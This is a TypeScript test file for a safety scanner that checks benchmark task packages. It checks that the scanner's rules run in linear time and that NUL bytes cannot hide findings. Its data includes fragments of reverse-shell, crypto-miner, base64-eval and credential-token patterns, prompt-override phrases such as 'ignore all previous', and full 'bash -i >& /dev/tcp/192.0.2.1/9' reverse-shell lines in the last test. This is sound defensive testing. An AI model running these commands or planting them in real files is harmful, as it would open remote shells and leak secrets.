import fc from 'fast-check'
import { beforeAll, expect, test } from 'vitest'
import { RULES, RULES_VERSION } from '../../src/harbor/safety/check-task.ts'
import { createView, type TaskView } from '../../src/harbor/safety/view.ts'
import { cpuMs } from '../support/cpu-time.ts'
import { changed, checkFiles } from './good-task.ts'

// No rule may take quadratic time on any text. The reference is a search that reads the next 500 characters at every
// position of a text of the same length: linear, and about the widest lookahead of a rule.

const LENGTH = 128 * 1024
/** Maximum time of a rule as a multiple of that search. Quadratic time would be more than a hundred times. */
const SHARE_MAX = 6

let linearMs = 0
beforeAll(async () => {
  const text = 'a'.repeat(LENGTH)
  linearMs = await cpuMs(() => text.search(/.{500}!/))
})

/** Repeated prefixes of patterns, so that a match could start at every position. */
const PREFIXES = [
  'a', ' ', '.', '\n', '$', '${A', '<!--', '<!-- canary ', 'eyJ', 'eyJhbGciOiJIUzI1NiJ9.', 'sk-', 'sk-proj-T3BlbkFJ', 'ghp_', 'xoxb-1',
  'xoxb-1234567890-', 'SG.', '-----BEGIN ', '-----BEGIN RSA PRIVATE ', 'AKIA', 'glpat-', 'hf_', 'bash -i ', 'bash -i /dev/', 'nc -', 'nc ',
  'nc -e ', 'mkfifo ', 'socat exec:', 'socket.socket ', 'xmrig ', 'stratum+', 'eval ', 'eval $(', 'exec(', 'exec(base64.', 'base64 -d ', 'base64 -d |',
  'eval(Buffer.from(', 'powershell -e ', '169.254.', 'nsenter ', '> /', 'docker ', 'mount ', 'ignore ', 'ignore all ', 'ignore all previous ',
  'do not tell ', '<|im_', '\u200B', '\uFE0F', '\u{1F3F4}', '\u{E0061}', '| ', '|| ', "'", '"', '\\', 'git clone ', 'rm ', 'rm .git',
] // biome-ignore format: a list of words

const repeated = (piece: string, length: number): string =>
  piece.repeat(Math.ceil(length / piece.length)).slice(0, length)

/** Returns the view of a task whose texts, commands and instructions are all this text. */
function viewWith(text: string): TaskView {
  const bytes = Buffer.from(text)
  const paths = ['instruction.md', 'environment/app/file.txt', 'solution/solve.sh']
  const scanned = paths.map((path) => ({ path, bytes, isWhole: true }))
  const view = createView({ outline: undefined, files: [], refusals: [], warnings: [], scanned }, [])
  return { ...view, commands: [{ path: 'environment/Dockerfile', line: 1, text }] }
}

test('the reference search takes measurable time', () => {
  expect(linearMs).toBeGreaterThan(1)
})

test.each(RULES)('$id takes linear time', async (rule) => {
  const slow: string[] = []
  for (const prefix of PREFIXES) {
    const view = viewWith(repeated(prefix, LENGTH))
    // Rules cache results per view, so each run gets a new copy.
    const once = () => rule.check({ ...view })
    const started = performance.now()
    once()
    if (performance.now() - started < SHARE_MAX * linearMs) continue
    // The machine may be busy: measure CPU time, best of three.
    const ms = await cpuMs(once)
    if (ms > SHARE_MAX * linearMs) slow.push(`${prefix}: ${ms} ms, against ${linearMs} ms`)
  }
  expect(slow).toEqual([])
})

test('three files with lines of a megabyte are checked in linear time', async () => {
  const line = repeated('eval $(base64 -d ', 1_000_000)
  const files = { 'instruction.md': line, 'environment/app/a.txt': line, 'solution/solve.sh': line }
  const texts = (3 * line.length) / LENGTH
  expect(await cpuMs(() => checkFiles(changed(files)))).toBeLessThan(SHARE_MAX * linearMs * texts)
})

test('the check returns a result for any file content', async () => {
  const word = fc.constantFrom(
    ...PREFIXES,
    '\0',
    '\uD800',
    'services:',
    'build:',
    'RUN ',
    'COPY ',
    'FROM ',
    '[',
    '{',
    ': ',
    '- ',
  )
  const text = fc.array(word, { maxLength: 40 }).map((words) => words.join(''))
  await fc.assert(
    fc.asyncProperty(text, text, text, async (dockerfile, compose, instruction) => {
      const { rules } = await checkFiles(
        changed({
          'environment/Dockerfile': `FROM a\nRUN ${dockerfile}`,
          'environment/docker-compose.yaml': compose,
          'instruction.md': instruction,
        }),
      )
      expect(rules).toBe(RULES_VERSION)
    }),
    { numRuns: 300 },
  )
})

test.each([
  ['environment/Dockerfile', 'FROM a\n# \0\nRUN bash -i >& /dev/tcp/192.0.2.1/9 0>&1\n'],
  ['environment/Dockerfile', 'FROM a\nRUN ba\0sh -i >& /dev/tcp/192.0.2.1/9 0>&1\n'],
  ['solution/solve.sh', '#!/bin/bash\n\0\nba\0sh -i >& /dev/tcp/192.0.2.1/9 0>&1\n'],
  ['tests/run', '#!/bin/bash\n\0\nbash -i >& /dev/tcp/192.0.2.1/9 0>&1\n'],
])('a NUL byte in %s does not hide findings', async (path, text) => {
  const { findings } = await checkFiles(changed({ [path]: text }))
  expect(findings.map(({ rule }) => rule)).toEqual(expect.arrayContaining([expect.stringMatching(/^reverse_shell/)]))
})
